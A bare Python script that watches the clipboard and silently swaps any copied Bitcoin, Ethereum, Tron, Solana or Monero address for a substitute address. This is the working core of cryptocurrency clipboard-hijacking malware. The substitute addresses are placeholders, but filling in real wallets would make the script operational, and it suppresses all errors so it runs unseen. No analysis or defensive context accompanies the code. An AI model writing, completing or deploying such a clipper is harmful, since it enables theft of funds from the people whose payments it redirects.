import re
import time

import pyperclip

# placeholder addresses (not real wallets)
_SWAP = [
    (re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$"), "bc1qplaceholder0000000000000000000000000"),
    (re.compile(r"^0x[a-fA-F0-9]{40}$"), "0xPLACEHOLDER0000000000000000000000000000"),
    (re.compile(r"^T[A-Za-z1-9]{33}$"), "T0000000000000000000000000000000000"),
    (re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$"), "So1anaP1aceho1der0000000000000000000000000"),
    (re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"), "4" + "0" * 94),
]


def loop():
    last = None
    while True:
        try:
            text = pyperclip.paste().strip()
            if text != last:
                for pattern, replacement in _SWAP:
                    if pattern.match(text):
                        pyperclip.copy(replacement)
                        text = replacement
                        break
                last = text
        except Exception:
            pass
        time.sleep(0.3)
